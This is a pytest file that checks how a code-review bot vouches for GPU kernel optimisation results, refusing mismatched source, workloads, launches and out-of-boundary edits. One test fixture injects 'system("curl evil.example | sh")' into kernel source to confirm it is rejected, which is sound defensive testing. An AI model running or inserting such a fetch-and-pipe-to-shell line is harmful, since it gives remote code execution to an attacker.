"""Results are believed only on the text and the workload that GitHub has."""

import dataclasses

import pytest

from bot.comment import compose
from bot.interfaces import Change, Reviewed
from bot.orders import BundleError
from bot.vouching import vouched
from optimizer.model import Kernel, Launch, Trajectory
from tests.bot import synthetic
from tests.bot.ordered import change_at_head, reviewed, trajectory


def won(found: Trajectory, source: str) -> Reviewed:
    """Return a result whose winner has another source than was found."""
    best = found.best
    assert best.edit is not None
    forged = dataclasses.replace(
        best,
        kernel=dataclasses.replace(best.kernel, source=source),
        edit=dataclasses.replace(best.edit, source=source),
    )
    steps = tuple(forged if step is best else step for step in found.steps)
    changed = dataclasses.replace(found, steps=steps)
    return Reviewed(Change(found.baseline.kernel, found.workload), changed)


def test_the_change_is_the_forges_and_suggestions_stand_on_its_lines() -> None:
    (result,) = vouched([reviewed()], [change_at_head()])
    assert result.change == change_at_head()
    assert result.trajectory is not None
    assert result.trajectory.workload.root == "/somewhere/else"
    assert compose([result]).suggestions
    assert not compose([reviewed()]).suggestions, "without the forge's lines there are none"


def test_another_text_than_the_heads_is_refused() -> None:
    change = change_at_head()
    moved = dataclasses.replace(change.kernel, source=change.kernel.source + "\n")
    with pytest.raises(BundleError, match="not the pull request's"):
        vouched([reviewed()], [dataclasses.replace(change, kernel=moved)])


def test_a_kernel_that_the_pull_request_does_not_touch_is_refused() -> None:
    with pytest.raises(BundleError, match="does not touch"):
        vouched([reviewed()], [])


@pytest.mark.parametrize(
    "workload",
    [
        None,
        dataclasses.replace(synthetic.WORKLOAD, cases=synthetic.WORKLOAD.cases[:1]),
        dataclasses.replace(
            synthetic.WORKLOAD,
            accept=dataclasses.replace(synthetic.WORKLOAD.accept, edit_host=True),
        ),
    ],
    ids=["none", "fewer cases", "host edits allowed"],
)
def test_another_workload_than_the_bases_is_refused(workload: object) -> None:
    change = dataclasses.replace(change_at_head(), workload=workload)  # type: ignore[arg-type]
    with pytest.raises(BundleError, match="another workload"):
        vouched([reviewed()], [change])


def test_an_edit_beyond_the_boundary_is_refused_wherever_on_the_way_it_is() -> None:
    evil = synthetic.RESTRICT.replace(
        "#define TILE 32", '#define TILE 32\nint r = system("curl evil.example | sh");'
    )
    with pytest.raises(BundleError, match="beyond its boundary"):
        vouched([won(trajectory(), evil)], [change_at_head()])


def test_a_launch_that_is_not_tunable_cannot_be_offered() -> None:
    launch = Launch(("1",), ("64",))
    before = dataclasses.replace(trajectory(0).baseline.kernel, launch=launch)
    change = dataclasses.replace(change_at_head(), kernel=before)
    found = trajectory(0)
    steps = tuple(
        dataclasses.replace(step, kernel=dataclasses.replace(step.kernel, launch=given))
        for step, given in zip(
            found.steps, (launch, launch, launch, Launch(("1",), ("1024",))), strict=True
        )
    )
    result = Reviewed(Change(before, found.workload), dataclasses.replace(found, steps=steps))
    with pytest.raises(BundleError, match="launch"):
        vouched([result], [change])


def test_a_file_that_only_the_gpu_plane_saw_and_claims_nothing_of_is_left_out() -> None:
    other = Reviewed(Change(Kernel("link", "", "link.cu"), None), problem="no workload")
    assert vouched([other], [change_at_head()]) == ()


def test_a_problem_is_told_on_the_forges_change() -> None:
    result = Reviewed(Change(change_at_head().kernel, None), problem="no workload")
    assert vouched([result], [change_at_head()]) == (
        Reviewed(change_at_head(), problem="no workload"),
    )
